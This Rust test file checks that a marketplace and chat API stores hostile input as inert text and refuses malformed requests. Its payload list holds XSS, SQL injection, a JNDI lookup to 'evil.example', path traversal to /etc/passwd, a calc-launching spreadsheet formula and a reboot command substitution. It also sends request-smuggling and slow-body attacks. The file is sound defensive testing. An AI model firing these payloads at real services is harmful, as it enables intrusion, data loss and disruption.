//! What no sound client sends: refused as documented, or kept as what it is, text.

use std::io::{Read as _, Write as _};
use std::net::TcpStream;
use std::time::Duration;

use barterline_protocol::Encoding;
use barterline_protocol::request::Pull;
use serde_json::{Value, json};

use crate::support::http::raw;
use crate::support::{Answer, Call, World};

/// What is code somewhere else.
const CODE: [&str; 7] = [
    "<script>alert(1)</script>",
    "'; DROP TABLE accounts; --",
    "\" OR \"\"=\"",
    "${jndi:ldap://evil.example/a} {{7*7}} %s%n",
    "../../etc/passwd\\..\\x",
    "=cmd|' /C calc'!A0",
    "$(reboot) `reboot` | reboot; reboot",
];

/// Text of every kind that a keyboard, or somebody with an idea, can make.
const UNICODE: [&str; 5] = [
    "\u{202e}backwards\u{202c} and on",
    "zero\u{200b}width\u{feff}",
    "four bytes: \u{1f6b2}\u{10ffff}\u{20000}",
    "Z\u{351}\u{36b}\u{343}a\u{363}\u{35b}lgo",
    "e\u{301} is not \u{e9}",
];

#[tokio::test]
async fn what_is_code_elsewhere_is_text_here() {
    let world = World::new();
    let (ana, _, chat) = world.chat().await;
    let mut client = world.device(&ana, Encoding::Json).await;
    let mut head = 0;
    for words in CODE.iter().chain(&UNICODE) {
        head = client.tells(chat, words).await;
        let pull = Pull { chat, after: None, before: None, limit: Some(1) };
        let said = client.pulls(pull).await.events;
        assert_eq!(said.last().and_then(|event| event.text.as_deref()), Some(*words));
    }
    assert_eq!(head as usize, CODE.len() + UNICODE.len());

    let seller = world.person("seller");
    for words in CODE {
        let body = json!({
            "title": words, "description": words, "price": { "minor": 1, "currency": "EUR" },
        });
        let call = Call::new("POST", "/v1/listings").token(&seller.token).json(&body);
        let listing = world.call(call).expect(201).json();
        let path = format!("/v1/listings/{}", listing["id"].as_str().expect("an id"));
        let kept = world.get(&path).expect(200);
        assert_eq!(kept.headers["content-type"], "application/json");
        assert_eq!(
            (&kept.json()["title"], &kept.json()["description"]),
            (&json!(words), &json!(words))
        );
        let email = world.email(&format!("code{}", words.len()));
        let password = format!("a quiet evening {words}");
        let body = json!({ "email": email, "password": password, "name": words });
        let account = world.post("/v1/accounts", &body).expect(201).json();
        assert_eq!(account["name"], words);
        kept_of_a_person(&world, &email, &password, words);
        // In a path and a query it leads nowhere.
        let path = words.bytes().map(|byte| format!("%{byte:02x}")).collect::<Vec<_>>().concat();
        world.get(&format!("/v1/listings/{path}")).problem(400, "request.invalid");
        world.get(&format!("/v1/accounts/{}/listings?before={path}", ana.id)).expect(400);
    }
}

/// What people write of themselves, of where they are logged in and of their keys.
fn kept_of_a_person(world: &World, email: &str, password: &str, words: &str) {
    let log_in = json!({ "email": email, "password": password, "name": words });
    let session = world.post("/v1/sessions", &log_in).expect(201).json();
    let token = session["access_token"].as_str().expect("a token");
    let call = |method: &str, path: &str, body: Option<Value>| {
        let call = Call::new(method, path).token(token);
        world.call(if let Some(body) = body { call.json(&body) } else { call })
    };
    call("PATCH", "/v1/accounts/me", Some(json!({ "bio": words }))).expect(200);
    assert_eq!(call("GET", "/v1/accounts/me", None).expect(200).json()["bio"], words);
    let sessions = call("GET", "/v1/sessions", None).expect(200).json();
    assert_eq!(sessions["sessions"][0]["name"], words);
    let key = json!({ "name": words, "scopes": ["chats:read"], "password": password });
    call("POST", "/v1/api-keys", Some(key)).expect(201);
    assert_eq!(call("GET", "/v1/api-keys", None).expect(200).json()["keys"][0]["name"], words);
}

#[test]
fn names_that_deceive_are_refused_and_others_are_kept_as_they_are() {
    let world = World::new();
    let register = |email: &str, name: &str| {
        world.post(
            "/v1/accounts",
            &json!({ "email": email, "password": "correct horse", "name": name }),
        )
    };
    let free = world.email("free");
    for name in
        ["A\u{202e}na", "A\u{200b}na", "\u{3164}", "\u{2066}Ana\u{2069}", "Ana\u{e0041}", "A\0na"]
    {
        register(&free, name).problem(422, "account.name_invalid");
    }
    for email in
        ["a\u{202e}na@example.org", "a\u{200b}@example.org", "a\u{200d}@x.org", "a\n@x.org"]
    {
        register(email, "Ana").problem(422, "account.email_invalid");
    }
    for (n, name) in
        ["\u{10348} Gothic", "می\u{200c}خواهم", "👨\u{200d}👩", "e\u{301}"].iter().enumerate()
    {
        let account = register(&world.email(&format!("ok{n}")), name).expect(201).json();
        assert_eq!(account["name"], *name);
    }
    let ana = world.person("ana");
    let body = json!({ "title": "Bike\u{202e}", "price": { "minor": 1, "currency": "EUR" } });
    let call = Call::new("POST", "/v1/listings").token(&ana.token).json(&body);
    world.call(call).problem(422, "listing.title_invalid");
    // Nothing of it was kept: the address is free.
    register(&free, "Ana").expect(201);
}

#[test]
fn a_key_that_comes_twice_is_refused() {
    let world = World::new();
    let ana = world.person("ana");
    let post = |path: &str, body: &str| {
        let call = Call::new("POST", path).token(&ana.token);
        world
            .call(call.header("content-type", "application/json").body(body))
            .problem(400, "request.invalid")
    };
    let twice: [(&str, &str); 4] = [
        ("/v1/sessions", r#"{"email":"a@x.org","password":"hunter2","password":"hunter3"}"#),
        ("/v1/accounts", r#"{"email":"a@x.org","email":"b@x.org","password":"p","name":"n"}"#),
        ("/v1/sessions/refresh", r#"{"refresh_token":"a","refresh_token":"b"}"#),
        ("/v1/listings", r#"{"title":"a","title":"b","price":{"minor":1,"currency":"EUR"}}"#),
    ];
    for (path, body) in twice {
        let problem = post(path, body);
        assert!(
            problem["detail"].as_str().is_some_and(|detail| detail.contains("duplicate")),
            "{problem}"
        );
    }
    let nested = r#"{"title":"a","price":{"minor":1,"currency":"EUR"},"attributes":{"a":1,"a":2}}"#;
    post("/v1/listings", nested);
    let nested = r#"{"title":"a","price":{"minor":1,"minor":2,"currency":"EUR"}}"#;
    post("/v1/listings", nested);
    // No surrogate without its other half is text.
    post("/v1/listings", r#"{"title":"\ud83d","price":{"minor":1,"currency":"EUR"}}"#);
}

/// The head of a log-in over a bare connection, with these lines besides.
fn head(lines: &str) -> String {
    format!(
        "POST /v1/sessions HTTP/1.1\r\nhost: x\r\ncontent-type: application/json\r\n{lines}\r\n"
    )
}

#[test]
fn a_request_has_one_end() {
    let world = World::new();
    let refused = |bytes: &[u8]| {
        let answer = raw(world.listening, bytes);
        assert_eq!(answer.status, 400, "{}", String::from_utf8_lossy(bytes));
    };
    refused((head("content-length: 2\r\ncontent-length: 3\r\n") + "{}x").as_bytes());
    refused((head("content-length: 2, 3\r\n") + "{}x").as_bytes());
    for length in ["-1", "+2", "2 2", "0x2", "99999999999999999999999", ""] {
        refused((head(&format!("content-length: {length}\r\n")) + "{}").as_bytes());
    }
    refused((head("transfer-encoding: gzip\r\n") + "{}").as_bytes());
    refused((head("transfer-encoding: chunked, gzip\r\n") + "0\r\n\r\n").as_bytes());
    // A line that goes on in the next, white space before a colon, a NUL, a bare CR.
    refused((head("x-a: b\r\n  c\r\ncontent-length: 2\r\n") + "{}").as_bytes());
    refused((head("content-length : 2\r\n") + "{}").as_bytes());
    refused((head("x-a: a\0b\r\ncontent-length: 2\r\n") + "{}").as_bytes());
    refused((head("x-a: a\rb\r\ncontent-length: 2\r\n") + "{}").as_bytes());
    refused(b"GET  /v1/nothing HTTP/1.1\r\nhost: x\r\n\r\n");
    refused(b"GET /v1/no\0thing HTTP/1.1\r\nhost: x\r\n\r\n");
}

/// What is hidden behind a request's body is not a request.
fn answers_once(world: &World, bytes: &str) -> Answer {
    let mut stream = TcpStream::connect(world.listening).expect("the server listens");
    stream.set_read_timeout(Some(Duration::from_secs(30))).expect("a timeout");
    stream.write_all(bytes.as_bytes()).expect("a request");
    let mut heard = String::new();
    let _ = stream.read_to_string(&mut heard);
    assert_eq!(heard.matches("HTTP/1.1 ").count(), 1, "{heard}");
    assert!(!heard.contains("route.not_found"), "{heard}");
    raw(world.listening, bytes.as_bytes())
}

#[test]
fn a_request_behind_another_that_has_two_ends_is_not_heard() {
    let world = World::new();
    let hidden = "GET /v1/hidden HTTP/1.1\r\nhost: x\r\n\r\n";
    for lines in [
        "content-length: 7\r\ntransfer-encoding: chunked\r\n",
        "transfer-encoding: chunked\r\ncontent-length: 7\r\n",
    ] {
        answers_once(&world, &format!("{}2\r\n{{}}\r\n0\r\n\r\n{hidden}", head(lines)))
            .problem(400, "request.invalid");
    }
}

#[test]
fn a_head_is_bounded() {
    let world = World::new();
    let lines = (0..200).map(|n| format!("x-{n}: y\r\n")).collect::<Vec<_>>().concat();
    assert_eq!(raw(world.listening, head(&lines).as_bytes()).status, 431);
    let long = format!("x-long: {}\r\n", "y".repeat(20_000));
    assert_eq!(raw(world.listening, head(&long).as_bytes()).status, 431);
    let odd = head(&format!("{}: y\r\n", "x".repeat(70_000)));
    assert!([400, 431].contains(&raw(world.listening, odd.as_bytes()).status));
}

#[test]
fn a_body_that_trickles_is_cut_off() {
    let world = World::with_setting("BARTERLINE_SERVER__REQUEST_TIMEOUT_MS", "300");
    let mut stream = TcpStream::connect(world.listening).expect("the server listens");
    stream.set_read_timeout(Some(Duration::from_millis(20))).expect("a timeout");
    stream.write_all(head("content-length: 100000\r\n").as_bytes()).expect("a head");
    // A byte now and then is no progress: the time is for the whole body.
    let mut heard = Vec::new();
    loop {
        let _ = stream.write_all(b" ");
        let mut part = [0; 4_096];
        match stream.read(&mut part) {
            Ok(0) => break,
            Ok(n) => heard.extend_from_slice(&part[..n]),
            Err(error) if matches!(error.kind(), std::io::ErrorKind::WouldBlock) => {}
            Err(_) => break,
        }
        if heard.ends_with(b"}") {
            break;
        }
    }
    let heard = String::from_utf8_lossy(&heard);
    assert!(heard.starts_with("HTTP/1.1 408") && heard.contains("request.timeout"), "{heard}");
}

#[test]
fn content_types_and_values_of_the_wrong_kind_are_named() {
    let world = World::new();
    let ana = world.person("ana");
    let post = |body: Value| {
        let call = Call::new("POST", "/v1/listings").token(&ana.token);
        world.call(call.json(&body))
    };
    let price = json!({ "minor": 1, "currency": "EUR" });
    for body in [
        json!({ "title": 7, "price": price }),
        json!({ "title": null, "price": price }),
        json!({ "title": ["Bike"], "price": price }),
        json!({ "title": { "$ne": "" }, "price": price }),
        json!({ "title": "Bike", "price": { "minor": 1.5, "currency": "EUR" } }),
        json!({ "title": "Bike", "price": { "minor": -1, "currency": "EUR" } }),
        json!({ "title": "Bike", "price": { "minor": "1", "currency": "EUR" } }),
        json!([]),
        json!("Bike"),
        json!(null),
    ] {
        post(body).problem(400, "request.invalid");
    }
    for content_type in
        ["text/json", "multipart/form-data", "application/xml", "application/json, text/plain"]
    {
        let call = Call::new("POST", "/v1/listings").token(&ana.token);
        world
            .call(call.header("content-type", content_type).body("{}"))
            .problem(415, "request.media_type");
    }
}
